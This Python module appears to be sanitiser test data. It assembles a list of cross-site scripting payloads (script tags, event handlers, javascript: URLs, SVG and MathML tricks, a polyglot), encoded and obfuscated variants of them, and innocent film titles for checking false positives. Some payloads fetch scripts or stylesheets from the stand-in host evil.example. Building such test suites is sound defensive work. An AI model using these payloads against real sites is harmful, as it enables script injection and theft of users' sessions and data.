"""Attempts to smuggle a script into a page: what attackers write, in the disguises that get past naive filters."""

import html
from itertools import chain
from urllib.parse import quote

#: What is to run.
_CALL = "alert(1)"

#: Each runs a script by itself when a page takes it over unescaped.
_BASES = (
    "<script>{x}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>{x}//",
    "<script\n>{x}</script\n>",
    "<script/x>{x}</script>",
    "<script type=module>{x}</script>",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<<script>{x}//<</script>",
    "<img src=x onerror={x}>",
    "<img/src=x/onerror={x}>",
    '<img src="x" onerror="{x}">',
    "<img src=x onerror='{x}'",
    "<img src=`x`onerror={x}>",
    "<IMG LOWSRC=javascript:{x}>",
    '<image src="x" onerror="{x}">',
    "<svg onload={x}>",
    "<svg/onload={x}>",
    "<svg><script>{x}</script></svg>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{x}"><text y=20>go</text></a></svg>',
    "<svg><set attributeName=onload to={x}>",
    "<svg><foreignObject><body onload={x}></foreignObject></svg>",
    '<math><mi xlink:href="javascript:{x}">go</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror={x}></style></mglyph></table></mtext></math>",
    "<body onload={x}>",
    "<body onpageshow={x}>",
    "<iframe src=javascript:{x}></iframe>",
    '<iframe srcdoc="<script>{x}</script>"></iframe>',
    "<iframe onload={x}></iframe>",
    "<object data=javascript:{x}></object>",
    "<embed src=javascript:{x}>",
    '<a href="javascript:{x}">go</a>',
    '<a href="jav&#x09;ascript:{x}">go</a>',
    '<a href=" javascript:{x}">go</a>',
    '<a href="data:text/html,<script>{x}</script>">go</a>',
    '<a href="vbscript:{x}">go</a>',
    "<a onmouseover={x}>go</a>",
    '<form action="javascript:{x}"><input type=submit></form>',
    '<button formaction="javascript:{x}">go</button>',
    "<input autofocus onfocus={x}>",
    "<select autofocus onfocus={x}>",
    "<textarea autofocus onfocus={x}>",
    "<details open ontoggle={x}>",
    "<marquee onstart={x}>",
    "<video><source onerror={x}></video>",
    "<video src=x onerror={x}>",
    "<audio src=x onerror={x}>",
    "<style>@import'//evil.example/x.css';</style>",
    '<div style="background:url(javascript:{x})">',
    '<div style="width:expression({x})">',
    "<div onpointerover={x}>over</div>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:{x}">',
    '<table background="javascript:{x}">',
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    '<template><script>{x}</script></template><img src=x onerror="{x}">',
    "<xss style=animation-name:x onanimationstart={x}>",
    "</title><script>{x}</script>",
    "</textarea><script>{x}</script>",
    "</script><script>{x}</script>",
    "--><script>{x}</script>",
    "]]><script>{x}</script>",
    "'><script>{x}</script>",
    '"><script>{x}</script>',
    '"><img src=x onerror={x}>',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={x} )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd={x}//>",
)

#: These need a place of their own to do harm: an attribute, a template, a URL. They are letters elsewhere.
_FRAGMENTS = (
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    "java\tscript:{x}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '" onmouseover="{x}',
    "' onfocus='{x}' autofocus='",
    "{{{{constructor.constructor('{x}')()}}}}",
    "${{{x}}}",
    "{{% debug %}}",
    "`{x}`",
    "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "%3Cscript%3E{x}%3C/script%3E",
)


def _disguises(payload: str) -> tuple[str, ...]:
    """The payload, and the same in capitals, as entities (once, twice, numeric), with NUL bytes, and unfinished."""
    return (
        payload,
        payload.upper().replace("ALERT", "alert"),
        html.escape(payload),
        html.escape(html.escape(payload)),
        "".join(f"&#{ord(letter)};" if letter in "<>\"'" else letter for letter in payload),
        payload.replace("<", "<\0"),
        payload.rstrip(">"),
    )


PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        chain(
            (disguise for base in _BASES for disguise in _disguises(base.format(x=_CALL))),
            (fragment.format(x=_CALL) for fragment in _FRAGMENTS),
            (quote(base.format(x=_CALL)) for base in _BASES[:10]),
        )
    )
)

#: Names of works that a filter by bad words or bad letters would damage.
INNOCENT = (
    "Cars",
    "Dune",
    "M*A*S*H",
    "Se7en",
    "千と千尋の神隠し",
    "I <3 You",
    "Love & Basketball",
    "Mr. & Mrs. Smith",
    "$#*! My Dad Says",
    "Script",
    "The Iframe",
    "Alert and Oriented",
    "On Error",
    "Select * from Heroes",
    "Drop Table",
    "8½",
    "Amélie",
    "Я худею",
    "الرسالة",
    "O'Brother, Where Art Thou?",
    '"Weird Al"',
    "x < y > z",
    "[REC]²",
)
